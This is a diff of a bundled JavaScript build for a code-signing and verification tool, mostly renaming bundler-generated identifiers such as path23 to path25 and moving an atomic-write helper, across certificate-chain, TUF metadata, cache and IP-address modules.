-  throw reject("CERT_CHAIN_UNTRUSTED", `certificate "${name(leaf)}" does not chain to a trusted root (${[...new Set(roots.map((r) => path2.basename(r.file)))].join(", ")})`);
+  throw reject("CERT_CHAIN_UNTRUSTED", `certificate "${name(leaf)}" does not chain to a trusted root (${[...new Set(roots.map((r) => path5.basename(r.file)))].join(", ")})`);
 }
 async function certificateChainTrust(rootFiles) {
   if (rootFiles.length === 0) throw usage("MISSING_OPTION", "certificate chain trust needs at least one root certificate file");
@@ -18782,30 +18956,6 @@ var init_trust_cert = __esm({
     MAX_PATH = 8;
     OID_EKU = "2.5.29.37";
     OID_CODE_SIGNING = "1.3.6.1.5.5.7.3.3";
-  }
-});
-
-// src/util/write-atomic.ts
-var write_atomic_exports = {};
-__export(write_atomic_exports, {
-  writeAtomic: () => writeAtomic
-});
-import { rename, unlink, writeFile as writeFile2 } from "node:fs/promises";
-import path3 from "node:path";
-async function writeAtomic(file, data, code = "WRITE_FAILED", label = file) {
-  const tmp = path3.join(path3.dirname(file), `.${path3.basename(file)}.${process.pid}.${Date.now()}.tmp`);
-  try {
-    await writeFile2(tmp, data, { flag: "wx", mode: 420 });
-    await rename(tmp, file);
-  } catch (e) {
-    await unlink(tmp).catch(() => void 0);
-    throw usage(code, `cannot write ${label}: ${errnoCode(e) ?? String(e)}`);
-  }
-}
-var init_write_atomic = __esm({
-  "src/util/write-atomic.ts"() {
-    "use strict";
-    init_errors();
   }
 });
 
@@ -20456,15 +20606,15 @@ var require_certificate = __commonJS({
       sort() {
         const leafCert = this.untrustedCert;
         let paths = this.buildPaths(leafCert);
-        paths = paths.filter((path24) => path24.some((cert) => this.trustedCerts.includes(cert)));
+        paths = paths.filter((path26) => path26.some((cert) => this.trustedCerts.includes(cert)));
         if (paths.length === 0) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "no trusted certificate path found"
           });
         }
-        const path23 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
-        return [leafCert, ...path23].slice(0, -1);
+        const path25 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
+        return [leafCert, ...path25].slice(0, -1);
       }
       // Recursively build all possible paths from the leaf to the root
       buildPaths(certificate) {
@@ -20523,30 +20673,30 @@ var require_certificate = __commonJS({
         });
         return issuers;
       }
-      checkPath(path23) {
-        if (path23.length < 1) {
+      checkPath(path25) {
+        if (path25.length < 1) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "certificate chain must contain at least one certificate"
           });
         }
-        const validCAs = path23.slice(1).every((cert) => cert.isCA);
+        const validCAs = path25.slice(1).every((cert) => cert.isCA);
         if (!validCAs) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "intermediate certificate is not a CA"
           });
         }
-        for (let i = path23.length - 2; i >= 0; i--) {
-          if (!path23[i].issuer.equals(path23[i + 1].subject)) {
+        for (let i = path25.length - 2; i >= 0; i--) {
+          if (!path25[i].issuer.equals(path25[i + 1].subject)) {
             throw new error_1.VerificationError({
               code: "CERTIFICATE_ERROR",
               message: "incorrect certificate name chaining"
             });
           }
         }
-        for (let i = 0; i < path23.length; i++) {
-          const cert = path23[i];
+        for (let i = 0; i < path25.length; i++) {
+          const cert = path25[i];
           if (cert.extBasicConstraints?.isCA) {
             const pathLength = cert.extBasicConstraints.pathLenConstraint;
             if (pathLength !== void 0 && pathLength < i - 1) {
@@ -20650,13 +20800,13 @@ var require_key = __commonJS({
       return { key: key.publicKey };
     }
     function verifyCertificate(leaf, timestamps, trustMaterial) {
-      let path23 = [];
+      let path25 = [];
       timestamps.forEach((timestamp) => {
-        path23 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
+        path25 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
       });
       return {
-        scts: (0, sct_1.verifySCTs)(path23[0], path23[1], trustMaterial.ctlogs),
-        signer: getSigner(path23[0])
+        scts: (0, sct_1.verifySCTs)(path25[0], path25[1], trustMaterial.ctlogs),
+        signer: getSigner(path25[0])
       };
     }
     function getSigner(cert) {
@@ -22222,7 +22372,7 @@ var require_file = __commonJS({
           ...this.unrecognizedFields
         };
       }
-      static fromJSON(path23, data) {
+      static fromJSON(path25, data) {
         const { length, hashes, ...rest } = data;
         if (typeof length !== "number") {
           throw new TypeError("length must be a number");
@@ -22232,7 +22382,7 @@ var require_file = __commonJS({
         }
         return new _TargetFile({
           length,
-          path: path23,
+          path: path25,
           hashes,
           unrecognizedFields: rest
         });
@@ -23807,11 +23957,11 @@ var require_commonjs3 = __commonJS({
       return (f2) => f2.length === len && f2 !== "." && f2 !== "..";
     };
     var defaultPlatform = typeof process === "object" && process ? typeof process.env === "object" && process.env && process.env.__MINIMATCH_TESTING_PLATFORM__ || process.platform : "posix";
-    var path23 = {
+    var path25 = {
       win32: { sep: "\\" },
       posix: { sep: "/" }
     };
-    exports.sep = defaultPlatform === "win32" ? path23.win32.sep : path23.posix.sep;
+    exports.sep = defaultPlatform === "win32" ? path25.win32.sep : path25.posix.sep;
     exports.minimatch.sep = exports.sep;
     exports.GLOBSTAR = Symbol("globstar **");
     exports.minimatch.GLOBSTAR = exports.GLOBSTAR;
@@ -25039,9 +25189,9 @@ var require_snapshot = __commonJS({
     };
     exports.Snapshot = Snapshot;
     function metaToJSON(meta) {
-      return Object.entries(meta).reduce((acc, [path23, metadata]) => ({
+      return Object.entries(meta).reduce((acc, [path25, metadata]) => ({
         ...acc,
-        [path23]: metadata.toJSON()
+        [path25]: metadata.toJSON()
       }), {});
     }
     function metaFromJSON(data) {
@@ -25050,9 +25200,9 @@ var require_snapshot = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("meta field is malformed");
         } else {
-          meta = Object.entries(data).reduce((acc, [path23, metadata]) => ({
+          meta = Object.entries(data).reduce((acc, [path25, metadata]) => ({
             ...acc,
-            [path23]: file_1.MetaFile.fromJSON(metadata)
+            [path25]: file_1.MetaFile.fromJSON(metadata)
           }), {});
         }
       }
@@ -25234,9 +25384,9 @@ var require_targets = __commonJS({
     };
     exports.Targets = Targets;
     function targetsToJSON(targets) {
-      return Object.entries(targets).reduce((acc, [path23, target]) => ({
+      return Object.entries(targets).reduce((acc, [path25, target]) => ({
         ...acc,
-        [path23]: target.toJSON()
+        [path25]: target.toJSON()
       }), {});
     }
     function targetsFromJSON(data) {
@@ -25245,9 +25395,9 @@ var require_targets = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("targets must be an object");
         } else {
-          targets = Object.entries(data).reduce((acc, [path23, target]) => ({
+          targets = Object.entries(data).reduce((acc, [path25, target]) => ({
             ...acc,
-            [path23]: file_1.TargetFile.fromJSON(path23, target)
+            [path25]: file_1.TargetFile.fromJSON(path25, target)
           }), {});
         }
       }
@@ -35953,13 +36103,13 @@ var require_polyfill = __commonJS({
     var {
       chmod: chmod2,
       copyFile: copyFile2,
-      lstat: lstat5,
+      lstat: lstat6,
       mkdir: mkdir6,
       readdir,
       readlink,
-      stat: stat10,
+      stat: stat11,
       symlink: symlink2,
-      unlink: unlink5,
+      unlink: unlink6,
       utimes
     } = __require("fs/promises");
     var {
@@ -35991,8 +36141,8 @@ var require_polyfill = __commonJS({
       );
     }
     function getValidatedPath(fileURLOrPath) {
-      const path23 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath3(fileURLOrPath) : fileURLOrPath;
-      return path23;
+      const path25 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath3(fileURLOrPath) : fileURLOrPath;
+      return path25;
     }
     async function cpFn(src, dest, opts) {
       if (opts.preserveTimestamps && process.arch === "ia32") {
@@ -36049,7 +36199,7 @@ var require_polyfill = __commonJS({
       return destStat.ino && destStat.dev && destStat.ino === srcStat.ino && destStat.dev === srcStat.dev;
     }
     function getStats(src, dest, opts) {
-      const statFunc = opts.dereference ? (file) => stat10(file, { bigint: true }) : (file) => lstat5(file, { bigint: true });
+      const statFunc = opts.dereference ? (file) => stat11(file, { bigint: true }) : (file) => lstat6(file, { bigint: true });
       return Promise.all([
         statFunc(src),
         statFunc(dest).catch((err) => {
@@ -36070,7 +36220,7 @@ var require_polyfill = __commonJS({
       return getStatsForCopy(destStat, src, dest, opts);
     }
     function pathExists(dest) {
-      return stat10(dest).then(
+      return stat11(dest).then(
         () => true,
         // istanbul ignore next: not sure when this would occur
         (err) => err.code === "ENOENT" ? false : Promise.reject(err)
@@ -36084,7 +36234,7 @@ var require_polyfill = __commonJS({
       }
       let destStat;
       try {
-        destStat = await stat10(destParent, { bigint: true });
+        destStat = await stat11(destParent, { bigint: true });
       } catch (err) {
         if (err.code === "ENOENT") {
           return;
@@ -36101,7 +36251,7 @@ var require_polyfill = __commonJS({
       }
       return checkParentPaths(src, srcStat, destParent);
     }
-    var normalizePathToArray = (path23) => resolve(path23).split(sep).filter(Boolean);
+    var normalizePathToArray = (path25) => resolve(path25).split(sep).filter(Boolean);
     function isSrcSubdir(src, dest) {
       const srcArr = normalizePathToArray(src);
       const destArr = normalizePathToArray(dest);
@@ -36120,7 +36270,7 @@ var require_polyfill = __commonJS({
       return getStatsForCopy(destStat, src, dest, opts);
     }
     async function getStatsForCopy(destStat, src, dest, opts) {
-      const statFn = opts.dereference ? stat10 : lstat5;
+      const statFn = opts.dereference ? stat11 : lstat6;
       const srcStat = await statFn(src);
       if (srcStat.isDirectory() && opts.recursive) {
         return onDir(srcStat, destStat, src, dest, opts);
@@ -36165,7 +36315,7 @@ var require_polyfill = __commonJS({
     }
     async function mayCopyFile(srcStat, src, dest, opts) {
       if (opts.force) {
-        await unlink5(dest);
+        await unlink6(dest);
         return _copyFile(srcStat, src, dest, opts);
       } else if (opts.errorOnExist) {
         throw new ERR_FS_CP_EEXIST({
@@ -36204,7 +36354,7 @@ var require_polyfill = __commonJS({
       return chmod2(dest, srcMode);
     }
     async function setDestTimestamps(src, dest) {
-      const updatedSrcStat = await stat10(src);
+      const updatedSrcStat = await stat11(src);
       return utimes(dest, updatedSrcStat.atime, updatedSrcStat.mtime);
     }
     function onDir(srcStat, destStat, src, dest, opts) {
@@ -36256,7 +36406,7 @@ var require_polyfill = __commonJS({
           errno: EINVAL
         });
       }
-      const srcStat = await stat10(src);
+      const srcStat = await stat11(src);
       if (srcStat.isDirectory() && isSrcSubdir(resolvedDest, resolvedSrc)) {
         throw new ERR_FS_CP_SYMLINK_TO_SUBDIRECTORY({
           message: `cannot overwrite ${resolvedDest} with ${resolvedSrc}`,
@@ -36268,7 +36418,7 @@ var require_polyfill = __commonJS({
       return copyLink(resolvedSrc, dest);
     }
     async function copyLink(resolvedSrc, dest) {
-      await unlink5(dest);
+      await unlink6(dest);
       return symlink2(resolvedSrc, dest);
     }
     module.exports = cp2;
@@ -36352,9 +36502,9 @@ var require_move_file = __commonJS({
   "node_modules/@npmcli/fs/lib/move-file.js"(exports, module) {
     var { dirname, join: join2, resolve, relative, isAbsolute } = __require("path");
     var fs2 = __require("fs/promises");
-    var pathExists = async (path23) => {
+    var pathExists = async (path25) => {
       try {
-        await fs2.access(path23);
+        await fs2.access(path25);
         return true;
       } catch (er2) {
         return er2.code !== "ENOENT";
@@ -36442,17 +36592,17 @@ var require_tmp = __commonJS({
     var crypto = __require("crypto");
     var { withTempDir } = require_lib5();
     var fs2 = __require("fs/promises");
-    var path23 = __require("path");
+    var path25 = __require("path");
     module.exports.mkdir = mktmpdir;
     module.exports.tmpName = function tmpName(cache, tmpPrefix) {
       const id2 = crypto.randomUUID();
-      return path23.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
+      return path25.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
     };
     async function mktmpdir(cache, opts = {}) {
       const { tmpPrefix } = opts;
-      const tmpDir = path23.join(cache, "tmp");
+      const tmpDir = path25.join(cache, "tmp");
       await fs2.mkdir(tmpDir, { recursive: true, owner: "inherit" });
-      const target = `${tmpDir}${path23.sep}${tmpPrefix || ""}`;
+      const target = `${tmpDir}${path25.sep}${tmpPrefix || ""}`;
       return fs2.mkdtemp(target, { owner: "inherit" });
     }
     module.exports.withTmp = withTmp;
@@ -36461,7 +36611,7 @@ var require_tmp = __commonJS({
         cb = opts;
         opts = {};
       }
-      return withTempDir(path23.join(cache, "tmp"), cb, opts);
+      return withTempDir(path25.join(cache, "tmp"), cb, opts);
     }
   }
 });
@@ -36570,12 +36720,12 @@ var require_path = __commonJS({
     "use strict";
     var contentVer = require_package2()["cache-version"].content;
     var hashToSegments = require_hash_to_segments();
-    var path23 = __require("path");
+    var path25 = __require("path");
     var ssri = require_lib4();
     module.exports = contentPath;
     function contentPath(cache, integrity) {
       const sri = ssri.parse(integrity, { single: true });
-      return path23.join(
+      return path25.join(
         contentDir(cache),
         sri.algorithm,
         ...hashToSegments(sri.hexDigest())
@@ -36583,7 +36733,7 @@ var require_path = __commonJS({
     }
     module.exports.contentDir = contentDir;
     function contentDir(cache) {
-      return path23.join(cache, `content-v${contentVer}`);
+      return path25.join(cache, `content-v${contentVer}`);
     }
   }
 });
@@ -37054,7 +37204,7 @@ var require_entry_index = __commonJS({
       writeFile: writeFile6
     } = __require("fs/promises");
     var { Minipass } = require_commonjs4();
-    var path23 = __require("path");
+    var path25 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var contentPath = require_path();
@@ -37091,7 +37241,7 @@ var require_entry_index = __commonJS({
       }).join("\n");
       const setup = async () => {
         const target = tmpName(cache, opts.tmpPrefix);
-        await mkdir6(path23.dirname(target), { recursive: true });
+        await mkdir6(path25.dirname(target), { recursive: true });
         return {
           target,
           moved: false
@@ -37104,7 +37254,7 @@ var require_entry_index = __commonJS({
       };
       const write = async (tmp2) => {
         await writeFile6(tmp2.target, newIndex, { flag: "wx" });
-        await mkdir6(path23.dirname(bucket), { recursive: true });
+        await mkdir6(path25.dirname(bucket), { recursive: true });
         await moveFile(tmp2.target, bucket);
         tmp2.moved = true;
       };
@@ -37128,7 +37278,7 @@ var require_entry_index = __commonJS({
         metadata
       };
       try {
-        await mkdir6(path23.dirname(bucket), { recursive: true });
+        await mkdir6(path25.dirname(bucket), { recursive: true });
         const stringified = JSON.stringify(entry);
         await appendFile2(bucket, `
 ${hashEntry(stringified)}	${stringified}`);
@@ -37178,17 +37328,17 @@ ${hashEntry(stringified)}	${stringified}`);
         await pMap2(
           buckets,
           async (bucket) => {
-            const bucketPath2 = path23.join(indexDir, bucket);
+            const bucketPath2 = path25.join(indexDir, bucket);
             const subbuckets = await readdirOrEmpty(bucketPath2);
             await pMap2(
               subbuckets,
               async (subbucket) => {
-                const subbucketPath = path23.join(bucketPath2, subbucket);
+                const subbucketPath = path25.join(bucketPath2, subbucket);
                 const subbucketEntries = await readdirOrEmpty(subbucketPath);
                 await pMap2(
                   subbucketEntries,
                   async (entry) => {
-                    const entryPath = path23.join(subbucketPath, entry);
+                    const entryPath = path25.join(subbucketPath, entry);
                     try {
                       const entries = await bucketEntries(entryPath);
                       const reduced = entries.reduce((acc, entry2) => {
@@ -37257,13 +37407,13 @@ ${hashEntry(stringified)}	${stringified}`);
     }
     module.exports.bucketDir = bucketDir;
     function bucketDir(cache) {
-      return path23.join(cache, `index-v${indexV}`);
+      return path25.join(cache, `index-v${indexV}`);
     }
     module.exports.bucketPath = bucketPath;
     function bucketPath(cache, key) {
       const hashed = hashKey(key);
-      return path23.join.apply(
-        path23,
+      return path25.join.apply(
+        path25,
         [bucketDir(cache)].concat(hashToSegments(hashed))
       );
     }
@@ -38009,17 +38159,17 @@ var require_lib6 = __commonJS({
     var _defaultFlag = Symbol("_defaultFlag");
     var _errored = Symbol("_errored");
     var ReadStream = class extends Minipass {
-      constructor(path23, opt) {
+      constructor(path25, opt) {
         opt = opt || {};
         super(opt);
         this.readable = true;
         this.writable = false;
-        if (typeof path23 !== "string") {
+        if (typeof path25 !== "string") {
           throw new TypeError("path must be a string");
         }
         this[_errored] = false;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
-        this[_path] = path23;
+        this[_path] = path25;
         this[_readSize] = opt.readSize || 16 * 1024 * 1024;
         this[_reading] = false;
         this[_size] = typeof opt.size === "number" ? opt.size : Infinity;
@@ -38165,7 +38315,7 @@ var require_lib6 = __commonJS({
       }
     };
     var WriteStream = class extends EE {
-      constructor(path23, opt) {
+      constructor(path25, opt) {
         opt = opt || {};
         super(opt);
         this.readable = false;
@@ -38175,7 +38325,7 @@ var require_lib6 = __commonJS({
         this[_ended] = false;
         this[_needDrain] = false;
         this[_queue] = [];
-        this[_path] = path23;
+        this[_path] = path25;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
         this[_mode] = opt.mode === void 0 ? 438 : opt.mode;
         this[_pos] = typeof opt.start === "number" ? opt.start : null;
@@ -38372,16 +38522,16 @@ var require_read = __commonJS({
     var MAX_SINGLE_READ_SIZE = 64 * 1024 * 1024;
     async function read(cache, integrity, opts = {}) {
       const { size } = opts;
-      const { stat: stat10, cpath, sri } = await withContentSri(cache, integrity, async (cpath2, sri2) => {
-        const stat11 = size ? { size } : await fs2.stat(cpath2);
-        return { stat: stat11, cpath: cpath2, sri: sri2 };
+      const { stat: stat11, cpath, sri } = await withContentSri(cache, integrity, async (cpath2, sri2) => {
+        const stat12 = size ? { size } : await fs2.stat(cpath2);
+        return { stat: stat12, cpath: cpath2, sri: sri2 };
       });
-      if (stat10.size > MAX_SINGLE_READ_SIZE) {
-        return readPipeline(cpath, stat10.size, sri, new Pipeline()).concat();
+      if (stat11.size > MAX_SINGLE_READ_SIZE) {
+        return readPipeline(cpath, stat11.size, sri, new Pipeline()).concat();
       }
       const data = await fs2.readFile(cpath, { encoding: null });
-      if (stat10.size !== data.length) {
-        throw sizeError(stat10.size, data.length);
+      if (stat11.size !== data.length) {
+        throw sizeError(stat11.size, data.length);
       }
       if (!ssri.checkData(data, sri)) {
         throw integrityError(sri, cpath);
@@ -38407,11 +38557,11 @@ var require_read = __commonJS({
       const { size } = opts;
       const stream = new Pipeline();
       Promise.resolve().then(async () => {
-        const { stat: stat10, cpath, sri } = await withContentSri(cache, integrity, async (cpath2, sri2) => {
-          const stat11 = size ? { size } : await fs2.stat(cpath2);
-          return { stat: stat11, cpath: cpath2, sri: sri2 };
+        const { stat: stat11, cpath, sri } = await withContentSri(cache, integrity, async (cpath2, sri2) => {
+          const stat12 = size ? { size } : await fs2.stat(cpath2);
+          return { stat: stat12, cpath: cpath2, sri: sri2 };
         });
-        return readPipeline(cpath, stat10.size, sri, stream);
+        return readPipeline(cpath, stat11.size, sri, stream);
       }).catch((err) => stream.emit("error", err));
       return stream;
     }
@@ -38428,8 +38578,8 @@ var require_read = __commonJS({
       }
       try {
         return await withContentSri(cache, integrity, async (cpath, sri) => {
-          const stat10 = await fs2.stat(cpath);
-          return { size: stat10.size, sri, stat: stat10 };
+          const stat11 = await fs2.stat(cpath);
+          return { size: stat11.size, sri, stat: stat11 };
         });
       } catch (err) {
         if (err.code === "ENOENT") {
@@ -38483,11 +38633,11 @@ var require_read = __commonJS({
       err.code = "EBADSIZE";
       return err;
     }
-    function integrityError(sri, path23) {
-      const err = new Error(`Integrity verification failed for ${sri} (${path23})`);
+    function integrityError(sri, path25) {
+      const err = new Error(`Integrity verification failed for ${sri} (${path25})`);
       err.code = "EINTEGRITY";
       err.sri = sri;
-      err.path = path23;
+      err.path = path25;
       return err;
     }
   }
@@ -38655,7 +38805,7 @@ var require_write = __commonJS({
     var { Minipass } = require_commonjs4();
     var Pipeline = require_minipass_pipeline();
     var Flush = require_minipass_flush();
-    var path23 = __require("path");
+    var path25 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var fsm = require_lib6();
@@ -38775,7 +38925,7 @@ var require_write = __commonJS({
     }
     async function makeTmp(cache, opts) {
       const tmpTarget = tmpName(cache, opts.tmpPrefix);
-      await fs2.mkdir(path23.dirname(tmpTarget), { recursive: true });
+      await fs2.mkdir(path25.dirname(tmpTarget), { recursive: true });
       return {
         target: tmpTarget,
         moved: false
@@ -38783,7 +38933,7 @@ var require_write = __commonJS({
     }
     async function moveToDestination(tmp, cache, sri) {
       const destination = contentPath(cache, sri);
-      const destDir = path23.dirname(destination);
+      const destDir = path25.dirname(destination);
       if (moveOperations.has(destination)) {
         return moveOperations.get(destination);
       }
@@ -41917,9 +42067,9 @@ var require_glob = __commonJS({
   "node_modules/cacache/lib/util/glob.js"(exports, module) {
     "use strict";
     var { glob } = require_index_min2();
-    var path23 = __require("path");
-    var globify = (pattern) => pattern.split(path23.win32.sep).join(path23.posix.sep);
-    module.exports = (path24, options) => glob(globify(path24), options);
+    var path25 = __require("path");
+    var globify = (pattern) => pattern.split(path25.win32.sep).join(path25.posix.sep);
+    module.exports = (path26, options) => glob(globify(path26), options);
   }
 });
 
@@ -41951,7 +42101,7 @@ var require_rm2 = __commonJS({
     var glob = require_glob();
     var index = require_entry_index();
     var memo = require_memoization();
-    var path23 = __require("path");
+    var path25 = __require("path");
     var rmContent = require_rm();
     module.exports = entry;
     module.exports.entry = entry;
@@ -41967,7 +42117,7 @@ var require_rm2 = __commonJS({
     module.exports.all = all;
     async function all(cache) {
       memo.clearMemoized();
-      const paths = await glob(path23.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
+      const paths = await glob(path25.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
       return Promise.all(paths.map((p2) => rm4(p2, { recursive: true, force: true })));
     }
   }
@@ -41981,7 +42131,7 @@ var require_verify2 = __commonJS({
       mkdir: mkdir6,
       readFile: readFile2,
       rm: rm4,
-      stat: stat10,
+      stat: stat11,
       truncate,
       writeFile: writeFile6
     } = __require("fs/promises");
@@ -41989,7 +42139,7 @@ var require_verify2 = __commonJS({
     var fsm = require_lib6();
     var glob = require_glob();
     var index = require_entry_index();
-    var path23 = __require("path");
+    var path25 = __require("path");
     var ssri = require_lib4();
     var hasOwnProperty = (obj, key) => Object.prototype.hasOwnProperty.call(obj, key);
     var verifyOpts = (opts) => ({
@@ -42066,7 +42216,7 @@ var require_verify2 = __commonJS({
         indexStream.on("end", resolve).on("error", reject2);
       });
       const contentDir = contentPath.contentDir(cache);
-      const files = await glob(path23.join(contentDir, "**"), {
+      const files = await glob(path25.join(contentDir, "**"), {
         follow: false,
         nodir: true,
         nosort: true
@@ -42097,7 +42247,7 @@ var require_verify2 = __commonJS({
             }
           } else {
             stats.reclaimedCount++;
-            const s3 = await stat10(f2);
+            const s3 = await stat11(f2);
             await rm4(f2, { recursive: true, force: true });
             stats.reclaimedSize += s3.size;
           }
@@ -42110,7 +42260,7 @@ var require_verify2 = __commonJS({
     async function verifyContent(filepath, sri) {
       const contentInfo = {};
       try {
-        const { size } = await stat10(filepath);
+        const { size } = await stat11(filepath);
         contentInfo.size = size;
         contentInfo.valid = true;
         await ssri.checkStream(new fsm.ReadStream(filepath), sri);
@@ -42168,7 +42318,7 @@ var require_verify2 = __commonJS({
       for (const entry of bucket) {
         const content = contentPath(cache, entry.integrity);
         try {
-          await stat10(content);
+          await stat11(content);
           await index.insert(cache, entry.key, entry.integrity, {
             metadata: entry.metadata,
             size: entry.size,
@@ -42187,16 +42337,16 @@ var require_verify2 = __commonJS({
     }
     function cleanTmp(cache, opts) {
       opts.log.silly("verify", "cleaning tmp directory");
-      return rm4(path23.join(cache, "tmp"), { recursive: true, force: true });
+      return rm4(path25.join(cache, "tmp"), { recursive: true, force: true });
     }
     async function writeVerifile(cache, opts) {
-      const verifile = path23.join(cache, "_lastverified");
+      const verifile = path25.join(cache, "_lastverified");
       opts.log.silly("verify", "writing verifile to " + verifile);
       return writeFile6(verifile, `${Date.now()}`);
     }
     module.exports.lastRun = lastRun2;
     async function lastRun2(cache) {
-      const data = await readFile2(path23.join(cache, "_lastverified"), { encoding: "utf8" });
+      const data = await readFile2(path25.join(cache, "_lastverified"), { encoding: "utf8" });
       return /* @__PURE__ */ new Date(+data);
     }
   }
@@ -42646,22 +42796,22 @@ var require_matchers = __commonJS({
     };
     var DEEP_HEADER_AUTHORIZATION = {
       type: TYPE_PATH,
-      predicate: ({ path: path23 }) => path23.endsWith(".headers.authorization"),
+      predicate: ({ path: path25 }) => path25.endsWith(".headers.authorization"),
       replacement: "[REDACTED_HEADER_AUTHORIZATION]"
     };
     var DEEP_HEADER_SET_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path23 }) => path23.endsWith(".headers.set-cookie"),
+      predicate: ({ path: path25 }) => path25.endsWith(".headers.set-cookie"),
       replacement: "[REDACTED_HEADER_SET_COOKIE]"
     };
     var DEEP_HEADER_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path23 }) => path23.endsWith(".headers.cookie"),
+      predicate: ({ path: path25 }) => path25.endsWith(".headers.cookie"),
       replacement: "[REDACTED_HEADER_COOKIE]"
     };
     var REWRITE_REQUEST = {
       type: TYPE_PATH,
-      predicate: ({ path: path23 }) => path23.endsWith(".request"),
+      predicate: ({ path: path25 }) => path25.endsWith(".request"),
       replacement: (input) => ({
         method: input?.method,
         path: input?.path,
@@ -42671,7 +42821,7 @@ var require_matchers = __commonJS({
     };
     var REWRITE_RESPONSE = {
       type: TYPE_PATH,
-      predicate: ({ path: path23 }) => path23.endsWith(".response"),
+      predicate: ({ path: path25 }) => path25.endsWith(".response"),
       replacement: (input) => ({
         data: input?.data,
         status: input?.status,
@@ -42787,12 +42937,12 @@ var require_utils2 = __commonJS({
       },
       [TYPE_PATH]: (matcher) => (value, ctx) => {
         const rawPath = ctx?.path;
-        const path23 = rawPath.join(".").toLowerCase();
+        const path25 = rawPath.join(".").toLowerCase();
         const { predicate, replacement } = matcher;
         const replace = typeof replacement === "function" ? replacement : () => replacement;
-        const shouldRun = predicate({ rawPath, path: path23 });
+        const shouldRun = predicate({ rawPath, path: path25 });
         if (shouldRun) {
-          value = replace(value, { rawPath, path: path23 });
+          value = replace(value, { rawPath, path: path25 });
         }
         return value;
       }
@@ -45174,13 +45324,13 @@ var require_ipv4 = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.Address4 = void 0;
     var common = __importStar(require_common2());
-    var constants6 = __importStar(require_constants4());
+    var constants7 = __importStar(require_constants4());
     var address_error_1 = require_address_error();
-    var isCorrect4 = common.isCorrect(constants6.BITS);
+    var isCorrect4 = common.isCorrect(constants7.BITS);
     var Address4 = class _Address4 {
       constructor(address) {
         this.addressMinusSuffix = "";
-        this.groups = constants6.GROUPS;
+        this.groups = constants7.GROUPS;
         this.parsedAddress = [];
         this.parsedSubnet = "";
         this.subnet = "/32";
@@ -45190,17 +45340,17 @@ var require_ipv4 = __commonJS({
         this.isInSubnet = common.isInSubnet;
         this.isHostInSubnet = common.isHostInSubnet;
         this.address = address;
-        const subnet = constants6.RE_SUBNET_STRING.exec(address);
+        const subnet = constants7.RE_SUBNET_STRING.exec(address);
         if (subnet) {
           this.parsedSubnet = subnet[0].replace("/", "");
           this.subnetMask = parseInt(this.parsedSubnet, 10);
           this.subnet = `/${this.subnetMask}`;
-          if (this.subnetMask < 0 || this.subnetMask > constants6.BITS) {
+          if (this.subnetMask < 0 || this.subnetMask > constants7.BITS) {
             throw new address_error_1.AddressError("Invalid subnet mask.");
           }
-          address = address.replace(constants6.RE_SUBNET_STRING, "");
+          address = address.replace(constants7.RE_SUBNET_STRING, "");
         }
-        const longest = constants6.GROUPS * 4 - 1;
+        const longest = constants7.GROUPS * 4 - 1;
         if (address.length > longest) {
           throw new address_error_1.AddressError(`IPv4 addresses are at most ${longest} characters.`);
         }
@@ -45233,7 +45383,7 @@ var require_ipv4 = __commonJS({
         if (groups.some((group) => /^0\d/.test(group))) {
           throw new address_error_1.AddressError("IPv4 addresses can't have leading zeroes.");
         }
-        if (!address.match(constants6.RE_ADDRESS)) {
+        if (!address.match(constants7.RE_ADDRESS)) {
           throw new address_error_1.AddressError("Invalid IPv4 address.");
         }
         return groups;
@@ -45256,7 +45406,7 @@ var require_ipv4 = __commonJS({
        * address.subnetMask; // 24
        */
       static fromAddressAndMask(address, mask) {
-        const bits = common.prefixLengthFromMask(new _Address4(mask).bigInt(), constants6.BITS);
+        const bits = common.prefixLengthFromMask(new _Address4(mask).bigInt(), constants7.BITS);
         return new _Address4(`${address}/${bits}`);
       }
       /**
@@ -45270,9 +45420,9 @@ var require_ipv4 = __commonJS({
        */
       static fromAddressAndWildcardMask(address, wildcardMask) {
         const wildcard = new _Address4(wildcardMask).bigInt();
-        const allOnes = (BigInt(1) << BigInt(constants6.BITS)) - BigInt(1);
+        const allOnes = (BigInt(1) << BigInt(constants7.BITS)) - BigInt(1);
         const mask = wildcard ^ allOnes;
-        const bits = common.prefixLengthFromMask(mask, constants6.BITS);
+        const bits = common.prefixLengthFromMask(mask, constants7.BITS);
         return new _Address4(`${address}/${bits}`);
       }
       /**
@@ -45290,7 +45440,7 @@ var require_ipv4 = __commonJS({
        */
       static fromWildcard(input) {
         const groups = input.split(".");
-        if (groups.length !== constants6.GROUPS) {
+        if (groups.length !== constants7.GROUPS) {
           throw new address_error_1.AddressError("Wildcard pattern must have 4 octets");
         }
         let firstWildcard = -1;
@@ -45305,7 +45455,7 @@ var require_ipv4 = __commonJS({
         }
         const trailing = firstWildcard === -1 ? 0 : groups.length - firstWildcard;
         const replaced = groups.map((g2) => g2 === "*" ? "0" : g2);
-        const subnetBits = constants6.BITS - trailing * 8;
+        const subnetBits = constants7.BITS - trailing * 8;
         return new _Address4(`${replaced.join(".")}/${subnetBits}`);
       }
       /**
@@ -45351,7 +45501,7 @@ var require_ipv4 = __commonJS({
